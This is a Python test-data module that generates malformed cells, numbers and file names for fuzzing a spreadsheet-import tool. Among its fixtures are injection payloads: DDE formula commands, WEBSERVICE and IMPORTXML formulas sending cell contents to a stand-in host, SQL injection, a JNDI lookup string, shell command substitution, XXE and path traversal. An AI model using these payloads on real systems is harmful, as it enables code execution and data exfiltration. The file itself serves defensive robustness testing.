"""Texts, numbers and names that have broken spreadsheets, databases and shells before."""

from __future__ import annotations

import random

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/x","点我")',
    '=WEBSERVICE("http://192.0.2.1/"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=IMPORTXML(CONCAT("http://192.0.2.1/?v=",A2),"//a")',
    "{=1+1}",
)
CODE = (
    "'; drop table x; --",
    "\"; copy (select 1) to '/tmp/fuyou-pwned.csv'; --",
    "a' or '1'='1",
    "') ; attach '/tmp/fuyou-pwned.duckdb' as p; --",
    "{{ env_var('HOME') }}",
    "{% do run_query('select 1') %}",
    "${jndi:ldap://192.0.2.1/a}",
    "$(touch /tmp/fuyou-pwned)",
    "`touch /tmp/fuyou-pwned`",
    "%s%s%n%x",
    "{0.__class__}",
    "</script><script>alert(1)</script>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "../../../../etc/passwd",
    "__import__('os').system('touch /tmp/fuyou-pwned')",
)
TEXTS = (
    "",
    " ",
    "\u00a0\u3000",
    "长" * 40_000,
    "a" * 70_000,
    "\x01\x02\x1f",
    "\x7f\x80\x9f",
    "\u202e反向\u202c",
    "\u200b\u200d\ufeff",
    "\ufffe\uffff",
    "👩‍👩‍👧‍👦𠮷",
    "é" * 3,
    "\n" * 500,
    '"' * 999,
    "'" * 999,
    "模拟数据",
    "合计",
    "注：",
    "单位：千元",
    "填报单位：" + "某" * 5000,
    "2022年3月",
    "9999年99月",
    "2022年1月",
    "２０２２年３月",
    "1900-02-29",
    "0000-00-00",
    "2023-02-29",
    "2022-13-45",
    "99999999",
)
NUMBERS = (
    "1e308",
    "-1e308",
    "1e309",
    "1e-400",
    "9" * 30,
    "9" * 5000,
    "0." + "0" * 400 + "1",
    "NaN",
    "Infinity",
    "-inf",
    "0x1F",
    "1_000",
    "１２３",
    "١٢٣",
    "1,2,3,4",
    "1.2.3",
    "--5",
    "+-5",
    "(5)",
    "5%",
    "½",
    "Ⅷ",
    "一千",
    "#DIV/0!",
    "#REF!",
    "-0",
    "1e5",
    "1E+5",
    "1d5",
    "TRUE",
    "91341600MA0000001X",
    "9.1341600E+17",
)
ALL = (*FORMULAS, *CODE, *TEXTS, *NUMBERS)

NAMES = (
    "用电量2022年3月",
    "..\\..\\..\\evil",
    "=cmd|' 2022年3月",
    "a\nb",
    "a\x01b",
    "'; drop table x; --",
    "长" * 70,
    " ",
    ".hidden",
    "-rf",
    "CON",
    "a.xlsx.exe",
    "{{ 7*7 }}",
    "%2e%2e%2fetc",
    "👾",
    "error.json",
    "annotated",
    "9999年99月",
    "2022年1月 2023年2月",
)
SUFFIXES = (
    ".xlsx",
    ".xls",
    ".csv",
    ".tsv",
    ".txt",
    ".XLSX",
    ".xlsm",
    ".xlsb",
    ".ods",
    ".et",
    ".exe",
    "",
    ".",
)


def cell(rng: random.Random) -> str:
    """Any of the above, or two of them glued together."""
    text = rng.choice(ALL)
    return text + rng.choice(ALL) if rng.random() < 0.1 else text


def number(rng: random.Random) -> str:
    """A number as no office writes it, or as any machine might."""
    if rng.random() < 0.5:
        return rng.choice(NUMBERS)
    return f"{rng.uniform(-1, 1) * 10 ** rng.randint(-30, 40):.{rng.randint(0, 20)}f}"


def file_name(rng: random.Random, suffix: str) -> str:
    """Mostly an honest name; else one that lies about the content or wants to leave its folder."""
    if rng.random() < 0.6:
        return "用电量2022年3月" + suffix
    stem = rng.choice(NAMES)
    chosen = rng.choice(SUFFIXES) if rng.random() < 0.4 else suffix
    return (stem + chosen).replace("/", "_") or "x"
